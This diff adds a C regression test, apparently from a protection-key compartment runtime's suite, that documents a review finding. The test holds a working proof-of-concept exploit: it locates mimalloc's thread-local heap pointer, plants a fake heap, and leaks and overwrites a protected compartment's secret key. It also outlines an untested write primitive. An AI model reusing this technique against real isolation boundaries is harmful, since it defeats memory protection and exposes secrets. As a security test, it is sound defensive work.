@@ -1,0 +1,129 @@
+// Review (third attacker-A review): the process-wide libmimalloc, whose
+// bookkeeping is all key-0 memory, runs with a compartment's rights
+// whenever compartment code allocates or frees shared memory:
+// bulkhead_shared_malloc/calloc/realloc/strdup (the documented way to
+// hand data to a caller, docs/heaps.md), every allocation libc, ld.so or
+// the C++ runtime make while a compartment runs (alloc_index sends them to
+// mi_malloc), free/realloc/malloc_usable_size of a default-heap block from
+// a compartment, and C++ new/delete in a compartment. The runtime calls
+// mi_malloc and friends there without leaving the compartment and without
+// checking the block (heap.c, bulkhead_shared_*). heaps.md says "the
+// process-wide copy serves the default domain and only ever sees key-0
+// memory"; the threat model's row for it says the worst is "disturbing
+// the shared heap".
+// Here the default domain rewrites only key-0 memory: this thread's
+// default-heap word of libmimalloc.so.2 (static TLS, found through its
+// TPOFF64 relocation as Inputs/heap-pointers.h finds a copy's) now points
+// at a fake heap whose direct page for 6-byte blocks has its free list at
+// the vault's key. vault_name() returns bulkhead_shared_strdup("vault"):
+// mimalloc, with the vault's rights, pops the vault's key as the block,
+// stores the key's first word into the fake page as the next free block
+// (8 bytes of the vault's data in key-0 memory), and strdup writes
+// "vault" over the key. Four calls read all 32 bytes and change the key.
+// The same holds with the real heap (libmimalloc's _mi_heap_main, key-0
+// .data) instead of the TLS word, and a free() by the vault of a buffer
+// its caller gave it runs mimalloc's page-queue unlink on key-0 page
+// headers with the vault's rights (a write of the attacker's word where
+// the attacker chooses) -- not tested here.
+// Fix (not done): run the process-wide allocator with the default
+// domain's rights whenever the runtime calls it for compartment code
+// (bulkhead_shared_*, alloc_index's shared cases, free/realloc/
+// malloc_usable_size of a block outside the regions): enter the default
+// domain on a key-0 stack (the compartment's own stack is not writable
+// there), then come back. Checking the returned block is not enough: the
+// read happens in the pop, before the runtime sees the block.
+// Before a fix: "LEAK" and "CHANGED".
+// REQUIRES: pku
+// XFAIL: *
+// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t && %run %t
+#include "Inputs/heap-pointers.h"
+
+static const char original[32] = "vault master key 0123456789abcd";
+BULKHEAD_DATA(vault) static char master[32] = "vault master key 0123456789abcd";
+
+/* The documented way to hand data to a caller (docs/heaps.md). */
+BULKHEAD_ENTRY(vault) char *vault_name(void) {
+  return bulkhead_shared_strdup("vault");
+}
+
+BULKHEAD_ENTRY(vault) int vault_key_intact(void) {
+  return !memcmp(master, original, sizeof master);
+}
+
+/* This thread's default-heap word of the process-wide libmimalloc.so.2:
+ * the first word of its static TLS, at the offset its GOT holds for the
+ * TPOFF64 relocation of TLS offset 0 (readable key-0 memory). */
+static int find_shared_tls(struct dl_phdr_info *info, size_t size, void *out) {
+  (void)size;
+  if (!info->dlpi_name || !strstr(info->dlpi_name, "libmimalloc.so") ||
+      is_copy(info->dlpi_name))
+    return 0;
+  for (int j = 0; j < info->dlpi_phnum; j++) {
+    if (info->dlpi_phdr[j].p_type != PT_DYNAMIC)
+      continue;
+    const ElfW(Rela) *rela = NULL;
+    size_t n = 0;
+    for (const ElfW(Dyn) *d =
+             (const ElfW(Dyn) *)(info->dlpi_addr + info->dlpi_phdr[j].p_vaddr);
+         d->d_tag != DT_NULL; d++) {
+      uintptr_t v = d->d_un.d_ptr < info->dlpi_addr
+                        ? d->d_un.d_ptr + info->dlpi_addr
+                        : d->d_un.d_ptr;
+      if (d->d_tag == DT_RELA)
+        rela = (const ElfW(Rela) *)v;
+      if (d->d_tag == DT_RELASZ)
+        n = d->d_un.d_val / sizeof(ElfW(Rela));
+    }
+    for (size_t k = 0; rela && k < n; k++)
+      if (ELF64_R_TYPE(rela[k].r_info) == R_X86_64_TPOFF64 &&
+          !ELF64_R_SYM(rela[k].r_info) && rela[k].r_addend == 0) {
+        char *tp;
+        __asm__("movq %%fs:0, %0" : "=r"(tp));
+        *(void ***)out =
+            (void **)(tp + *(long *)(info->dlpi_addr + rela[k].r_offset));
+      }
+  }
+  return 0;
+}
+
+/* A fake heap: its direct page for 6-byte blocks is the fake page. */
+static void *fake_heap[160];
+static struct fake_page fake_page;
+
+int main(void) {
+  int vault_key = bulkhead_compartment_pkey("vault");
+  CHECK(vault_key > 0 && page_pkey(master) == vault_key);
+  char *name = vault_name(); /* as it should be: shared, readable */
+  CHECK(name && !strcmp(name, "vault") && page_pkey(name) == 0);
+  free(name);
+  CHECK(vault_key_intact());
+
+  void **dflt = NULL;
+  dl_iterate_phdr(find_shared_tls, &dflt);
+  CHECK(dflt && *dflt);
+  fake_heap[1 + (6 + 7) / 8] = &fake_page; /* strdup("vault"): 6 bytes */
+  unsigned long words[4];
+  for (int k = 3; k >= 0; k--) { /* downwards: strdup writes 6 bytes at the block */
+    fake_page.free = master + 8 * k;
+    void *real = *dflt;
+    *dflt = fake_heap;
+    char *r = vault_name();
+    *dflt = real;
+    CHECK(r);
+    words[k] = (unsigned long)fake_page.free; /* the vault's word, in key-0 memory */
+  }
+  int failed = 0;
+  char stolen[33] = {0};
+  memcpy(stolen, words, 32);
+  if (!memcmp(stolen, original, 16)) {
+    fprintf(stderr, "attacks-review3-shared-alloc-rights: LEAK: the vault's key \"%s\"\n", stolen);
+    failed = 1;
+  }
+  if (!vault_key_intact()) {
+    fprintf(stderr, "attacks-review3-shared-alloc-rights: CHANGED: the vault's key was overwritten\n");
+    failed = 1;
+  }
+  if (!failed)
+    printf("attacks-review3-shared-alloc-rights: ok\n");
+  return failed;
+}
